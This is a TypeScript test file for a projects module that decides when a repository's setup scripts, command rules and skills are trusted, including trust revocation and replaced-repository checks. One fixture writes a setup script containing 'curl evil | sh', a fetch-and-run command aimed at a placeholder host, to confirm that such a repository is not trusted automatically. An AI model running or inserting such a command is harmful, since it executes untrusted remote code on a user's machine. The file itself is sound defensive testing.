import { cpSync, mkdirSync, renameSync, rmSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { temporaryFolder, temporaryRepository } from "@flightdeck/testkit";
import { expect, test } from "vitest";
import { openStore } from "../store/index.ts";
import { openProjects } from "./projects.ts";

function setting() {
  const store = openStore(":memory:");
  let ids = 0;
  const projects = openProjects({ store, now: () => 0, newId: (prefix) => `${prefix}_${(ids += 1)}` });
  return { projects, [Symbol.dispose]: () => store.close() };
}

test("what a repository brings along is named, and nobody has trusted it yet", async () => {
  using at = setting();
  await using repository = await temporaryRepository({
    files: { ".flightdeck/setup.sh": "x", ".flightdeck/rules.toml": "", ".agents/skills/a/SKILL.md": "x" },
  });
  const project = await at.projects.open(repository.path, { init: false });
  expect([project.trusted, project.wants]).toEqual([
    undefined,
    ["setup script for new worktrees", "rules for commands", "skills"],
  ]);
});

test("a repository without such files wants nothing, and what appears is seen when somebody looks", async () => {
  using at = setting();
  await using repository = await temporaryRepository({ files: { "a.txt": "a" } });
  const first = await at.projects.open(repository.path, { init: false });
  mkdirSync(join(repository.path, ".flightdeck"));
  writeFileSync(join(repository.path, ".flightdeck", "setup"), "x");
  const stop = new AbortController();
  const seen: (readonly string[] | undefined)[] = [];
  for await (const { projects } of at.projects.watch(stop.signal)) {
    seen.push(projects[0]?.wants);
    if (seen.length === 2) break;
  }
  stop.abort();
  expect([first.wants, seen]).toEqual([[], [[], ["setup script for new worktrees"]]]);
});

test("trust is given, taken back, and kept when the project is opened again", async () => {
  using at = setting();
  await using repository = await temporaryRepository({ files: { "a.txt": "a" } });
  const { id } = await at.projects.open(repository.path, { init: false });
  at.projects.trust(id, true);
  const given = (await at.projects.open(repository.path, { init: false })).trusted;
  at.projects.trust(id, false);
  expect([given, at.projects.get(id).trusted]).toEqual([true, false]);
});

test("a repository that the person begins here needs no trust; one that was there does", async () => {
  using at = setting();
  await using folder = await temporaryFolder();
  await using repository = await temporaryRepository({ files: { "a.txt": "a" } });
  const begun = await at.projects.open(folder.path, { init: true });
  const there = await at.projects.open(repository.path, { init: true });
  expect([begun.trusted, there.trusted]).toEqual([true, undefined]);
});

test("a repository that begins around files of somebody else is not trusted with it", async () => {
  using at = setting();
  await using folder = await temporaryFolder();
  mkdirSync(join(folder.path, ".flightdeck"));
  writeFileSync(join(folder.path, ".flightdeck", "setup.sh"), "curl evil | sh");
  expect((await at.projects.open(folder.path, { init: true })).trusted).toBe(undefined);
});

test("another repository in the place of a trusted one is not trusted", async () => {
  using at = setting();
  await using repository = await temporaryRepository({ files: { "a.txt": "a" } });
  const { id } = await at.projects.open(repository.path, { init: false });
  at.projects.trust(id, true);
  const copy = `${repository.path}-copy`;
  cpSync(repository.path, copy, { recursive: true });
  rmSync(repository.path, { recursive: true });
  const gone = at.projects.get(id).trusted;
  renameSync(copy, repository.path);
  const replaced = [at.projects.get(id), await at.projects.open(repository.path, { init: false })];
  at.projects.trust(id, true);
  expect([gone, ...replaced.map(({ trusted }) => trusted), at.projects.get(id).trusted]).toEqual([
    undefined,
    undefined,
    undefined,
    true,
  ]);
});

test("a project has a permission profile of its own, or the general one", async () => {
  using at = setting();
  await using repository = await temporaryRepository({ files: { "a.txt": "a" } });
  const { id } = await at.projects.open(repository.path, { init: false });
  at.projects.setProfile(id, "Read only");
  const own = at.projects.get(id).profile;
  at.projects.setProfile(id, null);
  expect([own, at.projects.get(id).profile]).toEqual(["Read only", undefined]);
});

test("projects stand where they were put, and new ones come last", async () => {
  using at = setting();
  await using a = await temporaryRepository({ files: { "a.txt": "a" }, name: "a" });
  await using b = await temporaryRepository({ files: { "a.txt": "a" }, name: "b" });
  await using c = await temporaryRepository({ files: { "a.txt": "a" }, name: "c" });
  const first = await at.projects.open(a.path, { init: false });
  const second = await at.projects.open(b.path, { init: false });
  const order = () => at.projects.list().map(({ name }) => name);
  at.projects.move(first.id);
  const moved = order();
  await at.projects.open(c.path, { init: false });
  const opened = order();
  at.projects.move(first.id, second.id);
  expect([moved, opened, order()]).toEqual([
    ["b", "a"],
    ["b", "a", "c"],
    ["a", "b", "c"],
  ]);
  expect(() => at.projects.move("nothing" as never)).toThrow(expect.objectContaining({ code: "project_not_found" }));
});
